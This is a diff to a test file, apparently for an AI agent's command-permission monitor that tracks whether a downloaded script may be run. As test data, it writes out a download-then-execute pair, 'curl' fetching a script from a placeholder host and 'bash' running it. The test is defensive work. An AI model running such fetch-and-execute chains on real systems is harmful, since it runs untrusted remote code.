@@ -30,10 +30,11 @@ verdict("allow", "bash tools/b.sh", "s1")
 
 # the same, but it did not run
 got = verdict("allow", "curl -so c.sh https://x.example/c", "s2")
-expect(agent.ask("observe", event=got["event"], outcome="failed", session="s2")["forgotten"], "it had a mark")
+expect(agent.ask("observe", event=got["event"], outcome="not-run", session="s2")["forgotten"], "it had a mark")
 verdict("allow", "bash c.sh", "s2")
 got = verdict("allow", "curl -so c.sh https://x.example/c", "s2")
-expect(not agent.ask("observe", event=got["event"], outcome="ok", session="s2")["forgotten"], "it ran")
+for outcome in "ok", "failed":  # what failed may have written its file before
+    expect(not agent.ask("observe", event=got["event"], outcome=outcome, session="s2")["forgotten"], "it began")
 verdict("ask", "bash c.sh", "s2", got)
 verdict("allow", "bash c.sh", "s3")
 
